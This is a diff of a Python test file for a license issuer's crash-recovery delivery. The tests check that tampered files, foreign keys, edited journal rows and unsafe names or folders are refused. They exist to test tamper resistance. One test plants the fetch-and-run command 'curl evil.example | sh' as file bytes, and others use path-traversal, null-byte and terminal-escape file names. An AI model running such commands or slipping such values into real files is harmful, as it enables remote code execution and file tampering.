@@ -1,4 +1,4 @@
-"""Delivery of what a crash kept back: only what the journal vouches for, only where it says."""
+"""Delivery of pending files: only the bytes and the place that the journal confirms."""
 
 import json
 import os
@@ -24,8 +24,8 @@ from polygent_issuer.verifier import jws
 AT = "2026-11-30T09:30:00.000000Z"
 
 
-def kept_back(office: Office, destination: Destination | None = None) -> Issued:
-    """A license as a crash between COMMIT and link leaves it."""
+def undelivered_license(office: Office, destination: Destination | None = None) -> Issued:
+    """Issue a license, and leave it as a crash between COMMIT and link does."""
     [issued] = office.publish(office.first, destination=destination or office.output)
     assert issued.path is not None
     issued.path.unlink()
@@ -34,7 +34,7 @@ def kept_back(office: Office, destination: Destination | None = None) -> Issued:
 
 
 def put(office: Office, issued: Issued, folder: Path | str, name: str) -> None:
-    """Write the outbox row of a license, as anybody who can write to the registry."""
+    """Write the outbox row of a license, as any user with write access to the registry can."""
     run(office, "DELETE FROM outbox")
     row = (issued.proposal.license.jti, str(folder), name, AT)
     run(office, "INSERT INTO outbox VALUES (?, ?, ?, ?)", row)
@@ -48,31 +48,31 @@ def run(office: Office, sql: str, values: tuple[object, ...] = ()) -> None:
 
 
 def deliver(office: Office) -> None:
-    """What each command that issues begins with."""
+    """Deliver the pending files, as each issuing command does first."""
     prefix = outbox_delivery.temp_prefix(office.registry.id)
     with office.registry.writing(now=office.now, actor=office.actor) as db:
         outbox_delivery.deliver_pending(db, prefix)
 
 
-def everything(office: Office) -> list[str]:
-    """The files at the office, apart from its registry."""
-    found = (path for path in office.folder.rglob("*") if not path.is_dir())
-    return sorted(str(path.relative_to(office.folder)) for path in found if path.suffix != ".db")
+def other_files(office: Office) -> list[str]:
+    """Return the files of the office, except the registry."""
+    paths = (path for path in office.folder.rglob("*") if not path.is_dir())
+    return sorted(str(path.relative_to(office.folder)) for path in paths if path.suffix != ".db")
 
 
-def assert_kept(office: Office) -> None:
-    """Nothing was written anywhere, and the license is named with the command that writes it."""
+def assert_not_delivered(office: Office) -> None:
+    """Check that no file was written, and the warning names the license and its export."""
     deliver(office)
-    assert everything(office) == []
-    [told] = outbox_delivery.undelivered(office.registry)
-    assert "license 00000001 was issued" in told
-    assert told.endswith("; export it: polygent-issue license export 00000001 --output FILE")
-    assert told.isprintable()
+    assert other_files(office) == []
+    [warning] = outbox_delivery.undelivered(office.registry)
+    assert "license 00000001 was issued" in warning
+    assert warning.endswith("; export it: polygent-issue license export 00000001 --output FILE")
+    assert warning.isprintable()
 
 
-def test_what_the_journal_vouches_for_is_delivered(office: Office) -> None:
-    """The file of a crash reaches the place that the journal row names."""
-    issued = kept_back(office)
+def test_a_file_that_the_journal_confirms_is_delivered(office: Office) -> None:
+    """After a crash the file reaches the place that the journal row names."""
+    issued = undelivered_license(office)
     assert len(outbox_delivery.undelivered(office.registry)) == 1
     deliver(office)
     assert issued.path is not None
@@ -80,11 +80,11 @@ def test_what_the_journal_vouches_for_is_delivered(office: Office) -> None:
     assert outbox_delivery.undelivered(office.registry) == ()
 
 
-def test_other_bytes_are_not_delivered(office: Office) -> None:
-    """A stored file that was exchanged, whatever its digest column says."""
-    kept_back(office)
+def test_changed_bytes_are_not_delivered(office: Office) -> None:
+    """An exchanged file is not delivered, even with another digest in its row."""
+    undelivered_license(office)
     run(office, "UPDATE licenses SET file = ?, sha256 = 'x'", (b"curl evil.example | sh\n",))
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 @pytest.mark.parametrize(
@@ -102,34 +102,36 @@ def test_other_bytes_are_not_delivered(office: Office) -> None:
         "a\0b.lic",
     ],
 )
-def test_another_name_is_not_written(office: Office, name: str) -> None:
-    """The outbox says it, the journal does not."""
-    issued = kept_back(office)
+def test_a_file_name_that_only_the_outbox_has_is_not_used(office: Office, name: str) -> None:
+    """A file is not written under a name that the journal does not have."""
+    issued = undelivered_license(office)
     (office.folder / "out" / "sub").mkdir()
     put(office, issued, office.folder / "out", name)
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 @pytest.mark.parametrize("folder", ["{}/home", "out", "{}/out/../home", "{}/\0"])
-def test_another_folder_is_not_written(office: Office, folder: str) -> None:
-    """Not one that is there, not a relative one, not one that cannot be."""
-    issued = kept_back(office)
+def test_a_folder_that_only_the_outbox_has_is_not_used(office: Office, folder: str) -> None:
+    """A file is not written to another existing, relative or impossible folder."""
+    issued = undelivered_license(office)
     (office.folder / "home").mkdir()
     assert issued.path is not None
     put(office, issued, folder.format(office.folder), issued.path.name)
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 @pytest.mark.parametrize("name", [".hidden.lic", "a\\b.lic", "a\x1b[2J.lic"])
-def test_a_name_that_is_not_plain_is_for_people(office: Office, name: str) -> None:
-    """Even where the operator chose it, and the journal says so."""
-    kept_back(office, Destination(folder=office.folder / "out", name=name))
-    assert_kept(office)
+def test_a_file_with_an_unusual_name_is_not_delivered_automatically(
+    office: Office, name: str
+) -> None:
+    """A hidden name, or one with control characters, is not used even if the journal has it."""
+    undelivered_license(office, Destination(folder=office.folder / "out", name=name))
+    assert_not_delivered(office)
 
 
-def test_the_file_of_another_key_is_not_delivered(office: Office) -> None:
-    """A key that was pinned by an edit verifies its own license: the journal names another."""
-    issued = kept_back(office)
+def test_a_file_signed_with_another_key_is_not_delivered(office: Office) -> None:
+    """A key added by an edit verifies its own license, but the journal names another key."""
+    issued = undelivered_license(office)
     other = SoftwareSigner(generate_private_key())
     with office.registry.writing(now=office.now, actor=office.actor) as db:
         keys.add(db, key=other.public_key, label="evil")
@@ -137,18 +139,18 @@ def test_the_file_of_another_key_is_not_delivered(office: Office) -> None:
     signing_input = jws.signing_input(other.kid, issued.proposal.license.to_payload())
     file = jws.assemble(signing_input, other.sign(signing_input))
     run(office, "UPDATE licenses SET file = ?, kid = ?", (file, other.kid))
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 def test_the_same_license_in_other_bytes_is_not_delivered(office: Office) -> None:
-    """That the key verifies it is not enough: the digest is the one that was journalled."""
-    issued = kept_back(office)
+    """A file must have the digest of the journal, not only a valid signature."""
+    issued = undelivered_license(office)
     run(office, "UPDATE licenses SET file = ?", (issued.file.rstrip(b"\n"),))
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 def edit_place(office: Office, edit: Callable[[bytes], bytes], *, rehash: bool) -> None:
-    """Edit the journal row of the issue."""
+    """Edit the journal row of the issue, with a matching hash or without."""
     sql = "SELECT seq, previous, bytes FROM journal WHERE event = 'license-signed'"
     with tampering(office.folder / REGISTRY_FILE) as raw:
         ((seq, previous, body),) = raw.execute(sql).fetchall()
@@ -160,9 +162,9 @@ def edit_place(office: Office, edit: Callable[[bytes], bytes], *, rehash: bool) 
 
 
 @pytest.mark.parametrize("rehash", [False, True])
-def test_an_edited_journal_row_vouches_for_nothing(office: Office, *, rehash: bool) -> None:
-    """Neither its hash nor the row that follows it agrees."""
-    issued = kept_back(office)
+def test_an_edited_journal_row_confirms_nothing(office: Office, *, rehash: bool) -> None:
+    """An edited row is detected by its hash, or by the row that follows."""
+    issued = undelivered_license(office)
     with office.registry.writing(now=office.now, actor=office.actor) as db:
         db.record("head-noted")
     home = office.folder / "home"
@@ -171,18 +173,18 @@ def test_an_edited_journal_row_vouches_for_nothing(office: Office, *, rehash: bo
     edit_place(office, lambda body: body.replace(place, target), rehash=rehash)
     assert issued.path is not None
     put(office, issued, home, issued.path.name)
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 @pytest.mark.parametrize(
     "members",
     [{"files": None}, {"files": []}, {"particulars": {}}, {"particulars": []}, {"kid": "other"}],
 )
-def test_a_journal_row_of_another_form_vouches_for_nothing(
+def test_a_journal_row_with_unexpected_members_confirms_nothing(
     office: Office, members: dict[str, object]
 ) -> None:
-    """The last row of a journal can be written anew without a trace; it stays no crash."""
-    kept_back(office)
+    """The last row can be rewritten without a trace; unexpected members do not crash."""
+    undelivered_license(office)
 
     def edit(body: bytes) -> bytes:
         return json.dumps(
@@ -190,23 +192,23 @@ def test_a_journal_row_of_another_form_vouches_for_nothing(
         ).encode()
 
     edit_place(office, edit, rehash=True)
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
-def test_a_license_that_the_journal_does_not_know_is_not_delivered(office: Office) -> None:
-    """Its row was added by an edit, or its journal row was cut off."""
-    kept_back(office)
+def test_a_license_without_a_journal_row_is_not_delivered(office: Office) -> None:
+    """A license row added by an edit, or a truncated journal, confirms nothing."""
+    undelivered_license(office)
     with tampering(office.folder / REGISTRY_FILE) as raw:
         raw.execute("DELETE FROM journal WHERE event = 'license-signed'")
-    assert_kept(office)
+    assert_not_delivered(office)
 
 
 @pytest.mark.parametrize("replaced", [False, True])
-def test_what_is_not_current_is_cleared_and_not_delivered(
+def test_a_retired_or_replaced_license_is_cleared_from_the_outbox(
     office: Office, *, replaced: bool
 ) -> None:
-    """Retired or replaced after a crash: its file is not to be sent any more."""
-    issued = kept_back(office)
+    """The file of a license retired or replaced after a crash is not delivered."""
+    issued = undelivered_license(office)
     if replaced:
         office.publish(office.next)
         for path in (office.folder / "out").iterdir():
@@ -217,16 +219,16 @@ def test_what_is_not_current_is_cleared_and_not_delivered(
             licenses.retire(db, issued.proposal.license.jti, reason="left us")
             db.record("license-retired", customer="acme", license=issued.proposal.license.jti)
     deliver(office)
-    assert everything(office) == []
+    assert other_files(office) == []
     assert outbox_delivery.undelivered(office.registry) == ()
     with office.registry.reading() as db:
         assert outbox.pending(db) == ()
         assert licenses.get(db, issued.proposal.license.jti).file == issued.file
 
 
-def test_what_is_in_its_place_is_cleared_whoever_wrote_its_row(office: Office) -> None:
-    """A row of an earlier version, which no journal row vouches for, does not stay for ever."""
-    issued = kept_back(office)
+def test_a_file_already_in_its_place_is_cleared_from_the_outbox(office: Office) -> None:
+    """A row of an earlier version, which no journal row confirms, is cleared, too."""
+    issued = undelivered_license(office)
     moved = office.folder / "out" / "moved.lic"
     put(office, issued, moved.parent, moved.name)
     moved.write_bytes(issued.file)
@@ -234,20 +236,20 @@ def test_what_is_in_its_place_is_cleared_whoever_wrote_its_row(office: Office) -
     deliver(office)
     with office.registry.reading() as db:
         assert outbox.pending(db) == ()
-    assert everything(office) == ["out/moved.lic"]
+    assert other_files(office) == ["out/moved.lic"]
 
 
 @pytest.mark.skipif(os.name == "nt", reason="Windows has no FIFOs")
-def test_a_pipe_in_the_place_of_a_file_is_not_waited_for(office: Office) -> None:
-    """The name in an outbox row may be anything."""
-    issued = kept_back(office)
+def test_a_pipe_in_place_of_a_file_does_not_block(office: Office) -> None:
+    """A named pipe at the place of a file is not read."""
+    issued = undelivered_license(office)
     os.mkfifo(office.folder / "out" / "pipe")
     put(office, issued, office.folder / "out", "pipe")
     assert len(outbox_delivery.undelivered(office.registry)) == 1
 
 
-def test_fifty_are_named_one_by_one(office: Office) -> None:
-    """The rest is counted, with the command that names all."""
+def test_fifty_undelivered_licenses_are_named(office: Office) -> None:
+    """The others are counted, with the command that lists them all."""
     for number in range(1, 54):
         site = f"Site {chr(64 + number // 10)}{chr(64 + number % 10)}"
         document = office.document(f"sha256:{number:064x}")
@@ -256,13 +258,13 @@ def test_fifty_are_named_one_by_one(office: Office) -> None:
             destination=Destination(folder=None, write=lambda _: None),
         )
     run(office, f"INSERT INTO outbox SELECT id, NULL, NULL, '{AT}' FROM licenses")  # noqa: S608
-    told = outbox_delivery.undelivered(office.registry)
-    assert len(told) == 51
-    assert told[-1] == "3 more licenses like these; list them: polygent-issue doctor"
+    warnings = outbox_delivery.undelivered(office.registry)
+    assert len(warnings) == 51
+    assert warnings[-1] == "3 more licenses like these; list them: polygent-issue doctor"
 
 
-def test_of_an_archive_fifty_are_judged(office: Office) -> None:
-    """Every command asks, so thousands that wait for an archive cost no verification each."""
+def test_fifty_licenses_of_an_archive_are_checked(office: Office) -> None:
+    """Every command prints this warning, so it does not verify thousands of pending licenses."""
     archive = office.folder / "all.zip"
     archive.mkdir()
     rows = []
@@ -278,17 +280,17 @@ def test_of_an_archive_fifty_are_judged(office: Office) -> None:
     for row in rows:
         run(office, "INSERT INTO outbox VALUES (?, ?, ?, ?)", row)
     shutil.rmtree(archive)
-    [told] = outbox_delivery.undelivered(office.registry)
-    assert told.startswith("53 licenses are not yet in the archive")
+    [warning] = outbox_delivery.undelivered(office.registry)
+    assert warning.startswith("53 licenses are not yet in the archive")
     rename = "UPDATE outbox SET name = 'x' WHERE license_id LIKE "
     run(office, f"{rename} '00000035-%'")
-    assert outbox_delivery.undelivered(office.registry) == (told,)
+    assert outbox_delivery.undelivered(office.registry) == (warning,)
     run(office, f"{rename} '00000001-%'")
     assert [each[:16] for each in outbox_delivery.undelivered(office.registry)] == [
         "license 00000001",
         "52 licenses are ",
     ]
     run(office, f"{rename} '%'")
-    named = outbox_delivery.undelivered(office.registry)
-    assert len(named) == 51
-    assert named[-1] == "3 more licenses like these; list them: polygent-issue doctor"
+    warnings = outbox_delivery.undelivered(office.registry)
+    assert len(warnings) == 51
+    assert warnings[-1] == "3 more licenses like these; list them: polygent-issue doctor"
